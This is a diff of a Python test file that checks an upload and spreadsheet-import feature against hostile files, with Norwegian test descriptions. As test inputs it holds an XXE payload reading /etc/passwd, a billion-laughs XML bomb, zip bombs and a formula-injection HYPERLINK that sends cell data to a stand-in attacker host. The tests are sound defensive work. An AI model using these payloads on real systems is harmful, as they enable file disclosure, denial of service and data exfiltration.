@@ -1,4 +1,5 @@
 """V5: uploaded files, with real bombs: what is read is read in a process of its own that has nothing to give away."""
+
 import io
 import os
 import subprocess
@@ -53,8 +54,11 @@ def with_part(file: bytes, name: str, content: bytes) -> bytes:
 
 PEOPLE = workbook(["Ansattnummer", "Fornavn"], ["1", "Kari"])
 XXE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
-LAUGHS = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + b"".join(
-    b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12)) + b"]><x>&m;</x>"
+LAUGHS = (
+    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">'
+    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
+    + b"]><x>&m;</x>"
+)
 BOMBS = {
     "2 GB of nothing": lambda: zipped(**{"xl/worksheets/sheet1_xml": b"\0" * 200_000_000}),
     "ten thousand members": lambda: zipped(**{f"xl/{nth}": b"" for nth in range(10_000)}),
@@ -67,8 +71,14 @@ BOMBS = {
 }
 
 
-@tries("V5.2.1", "V5.2.3", "V1.5.1", "V5.2.2", "V5.3.2",
-       what="ekte bomber som Excel og Word: 200 MB nuller i 200 KB, ti tusen filer, ytre og nøstede enheter i XML, stier ut av arkivet, zip i zip, program")
+@tries(
+    "V5.2.1",
+    "V5.2.3",
+    "V1.5.1",
+    "V5.2.2",
+    "V5.3.2",
+    what="ekte bomber som Excel og Word: 200 MB nuller i 200 KB, ti tusen filer, ytre og nøstede enheter i XML, stier ut av arkivet, zip i zip, program",
+)
 @pytest.mark.parametrize("name", BOMBS)
 def test_a_bomb_is_refused_with_a_sentence_before_it_goes_off(name):
     file = BOMBS[name]()
@@ -79,9 +89,14 @@ def test_a_bomb_is_refused_with_a_sentence_before_it_goes_off(name):
         assert not isinstance(said.value.__cause__, bounded.OutOfBounds), "it used up its time or its memory"
 
 
-@tries("V15.2.2", "V5.2.1", "V13.3.2", "V16.5.3",
-       what="leseprosessen selv tatt over: finner ingen nøkler, får ikke skrive filer, stanses når den bruker for mye minne eller tid",
-       gap="prosessen er ikke skilt fra nettet av seg selv; det gjør virksomheten med systemd (IPAddressDeny) eller brannmur")
+@tries(
+    "V15.2.2",
+    "V5.2.1",
+    "V13.3.2",
+    "V16.5.3",
+    what="leseprosessen selv tatt over: finner ingen nøkler, får ikke skrive filer, stanses når den bruker for mye minne eller tid",
+    gap="prosessen er ikke skilt fra nettet av seg selv; det gjør virksomheten med systemd (IPAddressDeny) eller brannmur",
+)
 def test_the_reading_process_has_nothing_and_ends_in_time(monkeypatch):
     monkeypatch.setenv("SAMTALE_SECRET_KEY", SECRET)
     assert bounded.read(f"{READER}:snoop", b"") == []
@@ -94,7 +109,12 @@ def test_the_reading_process_has_nothing_and_ends_in_time(monkeypatch):
 
 
 @pytest.mark.django_db
-@tries("V5.2.1", "V5.3.1", "V5.4.1", what="for store filer, og filnavn med stier, skript og linjeskift, lastet opp på siden")
+@tries(
+    "V5.2.1",
+    "V5.3.1",
+    "V5.4.1",
+    what="for store filer, og filnavn med stier, skript og linjeskift, lastet opp på siden",
+)
 def test_a_name_is_only_a_name(cast):
     client = cast.client(cast.hr)
     big = SimpleUploadedFile("stor.csv", b"a;b\n" * 2_000_000)
@@ -108,7 +128,11 @@ def test_a_name_is_only_a_name(cast):
 
 
 @pytest.mark.django_db
-@tries("V1.2.5", "V1.3.3", what="formler i regneark: verdien leses som den sto, og regnes aldri ut; i det vi gir ut, er et navn som ligner en formel, tekst")
+@tries(
+    "V1.2.5",
+    "V1.3.3",
+    what="formler i regneark: verdien leses som den sto, og regnes aldri ut; i det vi gir ut, er et navn som ligner en formel, tekst",
+)
 def test_formulas_are_neither_run_nor_given(cast):
     evil = '=HYPERLINK("https://ond.example/?"&A1;"klikk")'
     table = read_apart(workbook(["Ansattnummer", "Fornavn"], ["1", evil], ["2", "=1+1"]))
@@ -116,7 +140,15 @@ def test_formulas_are_neither_run_nor_given(cast):
     given = cast.client(cast.hr).get("/people/import/example/").content.decode("utf-8-sig")
     cells = [cell.strip('"') for line in given.splitlines() for cell in line.split(";")]
     assert len(cells) > 40 and not [cell for cell in cells if cell[:1] in "=+-@\t\0" and cell]
-    seen = Picture(counts=Counter(), branches=[Branch(1, evil, 0)], holders=[HolderRow(1, "+1")], held_by_day=[],
-                   blocked=[], put_off=[], lines=[], above=[])
+    seen = Picture(
+        counts=Counter(),
+        branches=[Branch(1, evil, 0)],
+        holders=[HolderRow(1, "+1")],
+        held_by_day=[],
+        blocked=[],
+        put_off=[],
+        lines=[],
+        above=[],
+    )
     rows = [row for sheet in load_workbook(io.BytesIO(spreadsheet(seen))) for row in sheet.iter_rows(min_row=2)]
     assert [(row[0].data_type, row[0].value) for row in rows] == [("s", f"'{evil}"), ("s", "'+1")]
